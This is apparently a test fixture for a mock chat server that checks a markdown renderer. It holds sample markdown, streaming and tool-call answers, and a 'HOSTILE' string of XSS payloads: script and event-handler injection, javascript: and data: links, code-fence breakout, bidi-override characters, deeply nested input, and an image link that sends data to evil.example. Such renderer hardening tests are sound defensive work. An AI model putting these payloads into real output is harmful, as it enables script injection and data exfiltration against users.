/** What the mock server says, by the first word of the last message (`/markdown`, `/slow`, …). */

export const MARKDOWN = `# A tour of the renderer

A paragraph with **bold**, *italic*, ~~struck~~ text, \`code\`, a [link](https://example.org/a_(b) "title") and a bare https://example.org/path?q=1. Emoji 🐍 and 漢字 survive, and snake_case_names stay whole.

## Lists

1. First, with a nested list:
   - one
   - two
     1. deep
     2. deeper
2. Second, with code:
   \`\`\`python
   def add(a, b):
       """Adds."""
       return a + b  # sum
   \`\`\`
3. Third

- [x] done
- [ ] to do

## Code

\`\`\`rust
/// Merges two sorted lists.
fn merge(a: &[u32], b: &[u32]) -> Vec<u32> {
    let mut out = Vec::with_capacity(a.len() + b.len());
    let (mut i, mut j) = (0, 0); // positions
    while i < a.len() && j < b.len() {
        if a[i] <= b[j] { out.push(a[i]); i += 1 } else { out.push(b[j]); j += 1 }
    }
    out.extend_from_slice(&a[i..]);
    println!("done: {}", out.len());
    out
}
\`\`\`

## Table

| layer | kind | time |
|:------|:----:|-----:|
| 0 | Mamba-2 | 84 µs |
| 1 | **Experts** | 120 µs |
| 2 | Attention | 61 µs |

> A quote with *emphasis*,
> over two lines.

---

The end: \\(e^{i\\pi} + 1 = 0\\).`;

/** Everything a hostile model might try; `window.harmed` must stay unset. */
export const HOSTILE = `<script>window.harmed = 1</script> <img src=x onerror="window.harmed = 2">

[click](javascript:window.harmed=3) [data](data:text/html,<script>window.harmed=4</script>) [tab](java\tscript:alert(1)) <javascript:alert(1)>

![leak](https://evil.example/steal?data=secret)

<iframe srcdoc="<script>parent.harmed = 5</script>"></iframe> <svg onload="window.harmed = 6"></svg>

\`\`\`html"><script>window.harmed=7</script>
</code></pre><script>window.harmed = 8</script>
\`\`\`

\`\`\`js
let admin = false; /*\u202e } \u2066if (admin)\u2069 \u2066 begin */
\`\`\`

Text with \u202eoverride and more

${">".repeat(500)} deep

${"- ".repeat(300)}deep

${"[".repeat(2000)}${"*".repeat(3000)}a${"_".repeat(3000)}

${"x".repeat(30_000)}

| a | b |
|---|---|
| <b>bold</b> | [x](vbscript:1) |

__proto__ [constructor]: javascript:alert(1)`;

const LONG = Array.from(
  { length: 60 },
  (_, index) =>
    `## Part ${index + 1}\n\nThe **quick** brown fox number ${index + 1} jumps over a lazy dog and says \`woof()\` to it. ${"More words follow here. ".repeat(6)}`,
).join("\n\n");

export const ANSWERS = {
  markdown: () => ({ content: MARKDOWN }),
  hostile: () => ({ content: HOSTILE, delayMs: 0 }),
  long: () => ({ content: LONG }),
  slow: () => ({ content: "One slow word after another. ".repeat(200), delayMs: 30 }),
  think: () => ({
    reasoning:
      "The user wants to know whether I **think**.\n\nI do, for a moment:\n- first this\n- then that",
    content: "Yes, I thought about it, and the answer is 42.",
    delayMs: 25,
  }),
  tool: ({ last }) =>
    last.role === "tool"
      ? { content: `The tool said: ${last.content}` }
      : {
          content: "Let me look.",
          toolCalls: [
            { name: "get_weather", arguments: { city: "Zürich", days: 3 } },
            { name: "get_time", arguments: {} },
          ],
        },
  break: () => ({ content: "This answer will break in a moment, sadly.", breakAfter: 5 }),
  cut: () => ({ content: "This answer is cut off by a lost connection.", cutAfter: 5 }),
  length: () => ({ content: "This was too lo", finish: "length" }),
  busy: () => ({ content: "There was room after all." }),
};

/** Echoes, so that branches can be told apart. */
export const DEFAULT_ANSWER = ({ last, number }) => ({
  content:
    last.role === "tool"
      ? `The tool said: **${last.content}**`
      : `Answer ${number} to “${last.content}”. Grüße, 世界 🐍!`,
});
